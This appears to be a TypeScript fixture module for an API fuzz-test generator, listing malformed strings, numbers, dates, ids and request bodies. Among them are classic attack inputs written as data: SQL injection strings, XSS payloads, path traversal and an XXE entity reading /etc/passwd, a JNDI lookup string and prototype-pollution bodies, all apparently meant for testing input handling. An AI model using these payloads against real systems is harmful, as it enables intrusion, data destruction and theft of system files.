/** Hostile values the generator draws from; each list names its kind so a failure reads plainly. */

const HUGE = 100_000;

/** Strings a schema's `type: string` accepts but a database, a renderer or a parser may not. */
export const NASTY_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\u202eevil\u202c',
  '\u200f\u200e',
  'zero\u200bwidth\u200d\ufeff',
  '👨‍👩‍👧‍👦🇨🇳',
  'e\u0301\u0301\u0301\u0301',
  'Z̸̡̛̖a̴̢̛l̵̨̛g̶o̷',
  '\r\n\t\v\f\b',
  '\\',
  '"',
  "'",
  "'; DROP TABLE residents; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(0)--',
  '%',
  '_%_',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '%00',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  'null',
  'undefined',
  'true',
  '0x7fffffff',
  '２０２６',
  '٣',
  '沙湾市'.repeat(30),
  'x'.repeat(HUGE),
  '汉'.repeat(HUGE / 2),
];

/** Numbers at and past every edge: int32, safe integer, float, sign. */
export const NASTY_NUMBERS: readonly number[] = [
  -1,
  0,
  -0,
  0.5,
  -2147483649,
  2147483648,
  4294967296,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER - 2,
  1e21,
  1e308,
  -1e308,
  5e-324,
];

/** Query-string spellings of numbers and booleans that coercion may or may not accept. */
export const NASTY_QUERY_VALUES: readonly string[] = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '99999999999999999999999',
  '-1',
  '0',
  '1.5',
  '0x10',
  ' 1',
  '',
  'true',
  'yes',
  '[]',
  '%00',
  '\u0000',
];

/** Strings shaped like a date that are not one, and dates at the edges. */
export const BAD_DATES: readonly string[] = [
  '2026-02-30',
  '2026-02-29',
  '2026-13-01',
  '2026-00-10',
  '2026-04-31',
  '0000-00-00',
  '9999-99-99',
  '0000-01-01',
  '9999-12-31',
  '1900-01-01',
  '2026-1-1',
  '26-11-2026',
  '2026-11-26T25:61:00Z',
  '2026-11-26T02:00:00+99:00',
  '-002026-01-01',
];

/** Path ids that cannot exist: empty-ish, malformed, hostile or merely unknown. */
export const BAD_IDS: readonly string[] = [
  '0',
  '-1',
  'null',
  '00000000-0000-0000-0000-000000000000',
  '019ab000-0000-7000-8000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  "1' OR '1'='1",
  '..',
  '%2e%2e%2f',
  'a'.repeat(300),
  '9'.repeat(40),
  '\u0000',
  '<svg onload=alert(1)>',
  '汉字',
  '\u202e',
];

/** One hostile value of any JSON type, for a field whose type is being broken. */
export const WRONG_TYPES: readonly unknown[] = [null, true, false, 0, -1, 1.5, 'x', '', [], [null], {}, { a: 1 }, [[[[]]]]];

/** Request bodies that are not the JSON the route expects at all. */
export const RAW_BODIES: readonly { contentType: string; body: string }[] = [
  { contentType: 'application/json', body: '{' },
  { contentType: 'application/json', body: '' },
  { contentType: 'application/json', body: 'null' },
  { contentType: 'application/json', body: '"x"' },
  { contentType: 'application/json', body: '[]' },
  { contentType: 'application/json', body: '{"a":1e999}' },
  { contentType: 'application/json', body: '{"__proto__":{"admin":true}}' },
  { contentType: 'application/json', body: '{"constructor":{"prototype":{"admin":true}}}' },
  { contentType: 'application/json', body: '['.repeat(5000) + ']'.repeat(5000) },
  { contentType: 'application/json', body: '\ufeff{}' },
  { contentType: 'application/json; charset=latin1', body: '{}' },
  { contentType: 'text/plain', body: 'hello' },
  { contentType: 'application/x-www-form-urlencoded', body: 'a=1&b=2' },
  {
    contentType: 'multipart/form-data; boundary=x',
    body: '--x\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\nnot a png\r\n--x--\r\n',
  },
  { contentType: 'application/xml', body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>' },
];

export const HUGE_LENGTH = HUGE;
